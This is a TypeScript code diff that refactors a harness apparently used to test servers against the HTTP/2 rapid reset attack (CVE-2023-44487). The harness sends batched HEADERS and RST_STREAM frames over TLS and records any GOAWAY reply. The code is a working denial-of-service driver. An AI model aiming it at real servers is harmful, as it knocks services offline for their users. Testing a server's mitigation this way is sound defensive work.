@@ -1,4 +1,5 @@
 import * as tls from 'node:tls';
+import { FRAME, frame, frameReader, PREFACE } from './h2-frames.ts';
 
 /**
  * The HTTP/2 rapid reset attack (CVE-2023-44487) as raw frames over TLS (ALPN h2): the
@@ -15,18 +16,8 @@ export interface RapidResetOutcome {
   goaway: { errorCode: number; lastStreamId: number } | null;
 }
 
-const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
 const NGHTTP2_CANCEL = 0x8;
 const BATCH = 50;
-
-function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
 
 /** HPACK: indexed :method GET (2), :scheme https (7); :authority (1) and :path (4) literal without indexing. */
 function requestBlock(authority: string, path: string): Buffer {
@@ -48,7 +39,6 @@ export function rapidReset(port: number, tlsOptions: tls.ConnectionOptions, pair
     let sent = 0;
     let goaway: RapidResetOutcome['goaway'] = null;
     let closed = false;
-    let buffered = Buffer.alloc(0);
     const writeBatch = (): void => {
       if (closed || goaway !== null || sent >= pairs) return;
       const frames: Buffer[] = [];
@@ -63,19 +53,17 @@ export function rapidReset(port: number, tlsOptions: tls.ConnectionOptions, pair
       socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]));
       writeBatch();
     });
-    socket.on('data', (chunk: Buffer) => {
-      buffered = Buffer.concat([buffered, chunk]);
-      while (buffered.length >= 9) {
-        const length = buffered.readUIntBE(0, 3);
-        if (buffered.length < 9 + length) break;
-        const type = buffered[3]!;
-        const flags = buffered[4]!;
-        const payload = buffered.subarray(9, 9 + length);
-        buffered = buffered.subarray(9 + length);
-        if (type === 0x4 && (flags & 0x1) === 0 && !socket.destroyed) socket.write(frame(0x4, 0x1, 0, Buffer.alloc(0)));
-        if (type === 0x7 && goaway === null) goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
-      }
-    });
+    socket.on(
+      'data',
+      frameReader(
+        (bytes) => {
+          if (!socket.destroyed) socket.write(bytes);
+        },
+        ({ type, payload }) => {
+          if (type === FRAME.GOAWAY && goaway === null) goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
+        },
+      ),
+    );
     socket.on('error', () => {
       // A reset by the server after its GOAWAY is the expected end.
     });
